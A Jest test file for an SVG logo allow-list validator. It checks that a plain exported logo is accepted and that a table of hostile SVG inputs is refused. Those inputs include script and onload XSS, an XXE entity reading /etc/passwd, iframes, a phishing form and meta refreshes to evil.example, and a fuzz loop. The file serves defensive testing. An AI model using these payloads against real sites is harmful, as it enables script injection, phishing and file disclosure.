// The logo check is an allow-list: the review's payloads that passed the old block-list are
// refused, and a plain logo as drawing tools export it is accepted.

import { checkLogo } from '../../../src/console/settings/validate';
import { isInertSvg } from '../../../src/console/settings/svg-allow-list';

const NS = 'xmlns="http://www.w3.org/2000/svg"';

/** A logo as Inkscape's "plain SVG" or Illustrator exports it: gradient, paths, text, title. */
const LOGO = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created for the test -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg ${NS} xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1" width="120" height="40"
     viewBox="0 0 120 40" role="img" aria-label="Espace &amp; Co">
  <title>Espace Citoyen Numérique &#x2014; test</title>
  <defs>
    <linearGradient id="g1" x1="0" y1="0" x2="1" y2="1" gradientUnits="objectBoundingBox">
      <stop offset="0" stop-color="#1d4e89"/>
      <stop offset="1" style="stop-color:rgb(10, 20, 30);stop-opacity:0.8"/>
    </linearGradient>
    <clipPath id="c"><rect width="120" height="40" rx="6"/></clipPath>
  </defs>
  <g clip-path="url(#c)" transform="translate(2 2) scale(0.95)">
    <rect width="120" height="40" fill="url(#g1)"/>
    <path d="M10 30 L20 10 L30 30 Z" style="fill:#ffffff;stroke:none;fill-rule:evenodd"/>
    <circle cx="50" cy="20" r="8" fill="none" stroke="#fff" stroke-width="2"/>
    <use xlink:href="#c"/>
    <text x="64" y="26" font-family="Marianne, sans-serif" font-size="14" fill="#fff">ECN <tspan font-weight="bold">Roubaix</tspan></text>
  </g>
</svg>
`.replace('&#x2014;', '-');

describe('the SVG logo allow-list', () => {
  it('accepts a plain logo with gradients, clip paths, transforms, text and internal references', () => {
    expect(isInertSvg(LOGO)).toBe(true);
    expect(checkLogo(Buffer.from(LOGO))).toBe('image/svg+xml');
  });

  it.each([
    // The review's payloads, which the block-list let through.
    [
      '<set> rewriting a link',
      `<svg ${NS}><a><set attributeName="href" to="https://evil.example/"/><text>x</text></a></svg>`,
    ],
    [
      '<set> on its own',
      `<svg ${NS}><rect width="1" height="1"><set attributeName="fill" to="red"/></rect></svg>`,
    ],
    [
      '<animate> of href',
      `<svg ${NS}><use href="#a"><animate attributeName="href" values="https://evil.example/#x"/></use></svg>`,
    ],
    [
      '<animateTransform>',
      `<svg ${NS}><g><animateTransform attributeName="transform" type="scale" from="1" to="2"/></g></svg>`,
    ],
    [
      'an XHTML <iframe>',
      `<svg ${NS}><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></svg>`,
    ],
    [
      'a prefixed XHTML <iframe>',
      `<svg ${NS} xmlns:h="http://www.w3.org/1999/xhtml"><h:iframe src="https://evil.example/"/></svg>`,
    ],
    [
      'an XHTML <iframe> with a phishing form',
      `<svg ${NS}><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;form action=https://evil.example/&gt;&lt;input name=code&gt;&lt;/form&gt;"/></svg>`,
    ],
    [
      'an XHTML <meta> refresh',
      `<svg ${NS}><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/></svg>`,
    ],
    [
      'CSS image-set()',
      `<svg ${NS}><rect width="1" height="1" style="fill:image-set('https://evil.example/a.png' 1x)"/></svg>`,
    ],
    [
      '-webkit-image-set()',
      `<svg ${NS}><rect style="fill: -webkit-image-set(url(https://evil.example/a.png) 1x)"/></svg>`,
    ],
    [
      'a <style> sheet',
      `<svg ${NS}><style>rect { fill: image-set("https://evil.example/a.png" 1x) }</style></svg>`,
    ],
    // The old block-list's own cases stay refused.
    ['<script>', `<svg ${NS}><script>alert(1)</script></svg>`],
    ['an event handler', `<svg ${NS} onload="alert(1)"></svg>`],
    ['<foreignObject>', `<svg ${NS}><foreignObject><p>x</p></foreignObject></svg>`],
    ['an encoded javascript: link', `<svg ${NS}><a href="&#106;avascript:alert(1)"/></svg>`],
    ['an external entity', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'],
    ['an external url()', `<svg ${NS}><rect style="fill:url(https://x.example/p.svg#a)"/></svg>`],
    ['an external <image>', `<svg ${NS}><image href="https://evil.example/x.png"/></svg>`],
    ['an external <use>', `<svg ${NS}><use href="https://evil.example/s.svg#a"/></svg>`],
    [
      'a filter with <feImage>',
      `<svg ${NS}><filter id="f"><feImage href="https://evil.example/x.png"/></filter></svg>`,
    ],
    ['CDATA', `<svg ${NS}><text><![CDATA[<script>alert(1)</script>]]></text></svg>`],
    ['a foreign namespace declaration', `<svg ${NS} xmlns:ev="http://www.w3.org/2001/xml-events"></svg>`],
    ['a second root element', `<svg ${NS}></svg><svg ${NS}></svg>`],
    ['an unclosed element', `<svg ${NS}><g>`],
    ['an unquoted attribute', `<svg ${NS} width=10></svg>`],
  ])('refuses %s', (_, svg) => {
    expect(isInertSvg(svg)).toBe(false);
    expect(() => checkLogo(Buffer.from(svg))).toThrow(
      expect.objectContaining({ code: 'ECN_ERR_SETTINGS_INVALID' }),
    );
  });

  it("never accepts the plain logo with one of the review's elements spliced in anywhere (fuzz)", () => {
    const fragments = [
      '<set attributeName="href" to="https://evil.example/"/>',
      '<animate attributeName="href" values="https://evil.example/"/>',
      '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="x"/>',
      '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0"/>',
      '<script>alert(1)</script>',
      '<style>*{fill:image-set("https://evil.example/a.png" 1x)}</style>',
      '<image href="https://evil.example/a.png"/>',
      '<![CDATA[x]]>',
    ];
    // A fixed seed: the same positions on every run, so a failure can be replayed.
    let seed = 12;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (let n = 0; n < 3000; n++) {
      const fragment = fragments[Math.floor(next() * fragments.length)]!;
      const at = Math.floor(next() * (LOGO.length + 1));
      const svg = LOGO.slice(0, at) + fragment + LOGO.slice(at);
      if (isInertSvg(svg)) throw new Error(`accepted ${JSON.stringify(fragment)} at ${at}`);
    }
  });
});
